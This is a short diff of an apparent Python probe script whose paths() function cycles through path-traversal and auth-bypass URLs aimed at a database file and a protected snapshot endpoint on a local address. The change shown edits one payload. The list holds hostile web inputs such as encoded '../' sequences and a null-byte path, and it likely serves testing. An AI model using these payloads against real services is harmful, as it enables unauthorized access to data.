@@ -80,7 +80,7 @@ def hosts():
         time.sleep(0.05)
 
 def paths():
-    tricks = ['/../r.db', '/%2e%2e/r.db', '/..%2fr.db', '//r.db', '/api/v1/../../r.db', '/api/v1/snapshot%00', '/door/../api/v1/snapshot', '/page.css/../api/v1/snapshot', '/r.db', '/token', '/api/v1/snapshot?Authorization=Bearer', '/technician', '/']
+    tricks = ['/../r.db', '/%2e%2e/r.db', '/..%2fr.db', '//r.db', '/api/v1/../../r.db', '/api/v1/snapshot%00', '/login/../api/v1/snapshot', '/page.css/../api/v1/snapshot', '/r.db', '/token', '/api/v1/snapshot?Authorization=Bearer', '/technician', '/']
     while time.monotonic() < END:
         for trick in tricks:
             code, answer, _ = ask('127.0.2.4', f'GET {trick} HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n'.encode())
